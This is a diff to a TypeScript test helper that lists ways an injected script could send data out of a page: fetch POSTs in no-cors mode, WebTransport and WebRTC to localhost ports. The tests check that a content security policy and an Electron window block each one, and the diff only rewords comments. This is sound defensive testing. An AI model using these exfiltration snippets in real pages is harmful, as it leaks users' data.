@@ -1,6 +1,6 @@
 /*
- * Attempts of a page to send data out of its window. Each runs in the page like an injected script and may
- * throw or never resolve; only data that leaves counts.
+ * Ways in which a page could send data out of its window. Each attempt runs in the page like an injected
+ * script. It may throw or never resolve, because the tests only check whether data arrives at the target.
  */
 
 export interface ExfiltrationTarget {
@@ -12,7 +12,7 @@ export interface ExfiltrationTarget {
 
 type Attempts = Readonly<Record<string, (target: ExfiltrationTarget) => unknown>>;
 
-/** Requests that the content security policy controls in both shells. */
+/** Attempts with network requests, which the content security policy must block in both shells. */
 export const networkAttempts: Attempts = {
   fetch: ({ url: to, rows }) => fetch(to, { method: 'POST', body: rows, mode: 'no-cors' }),
   'fetch that outlives the page': ({ url: to, rows }) =>
@@ -74,7 +74,7 @@ export const networkAttempts: Attempts = {
   },
 };
 
-/** Attempts with other browser features, which the product's window blocks. */
+/** Attempts with other browser features, which only the product's Electron window blocks. */
 export const browserAttempts: Attempts = {
   WebTransport: ({ tcp: port }) => void new WebTransport(`https://127.0.0.1:${port}/`),
   'WebRTC to a STUN server': async ({ udp: port }) => {
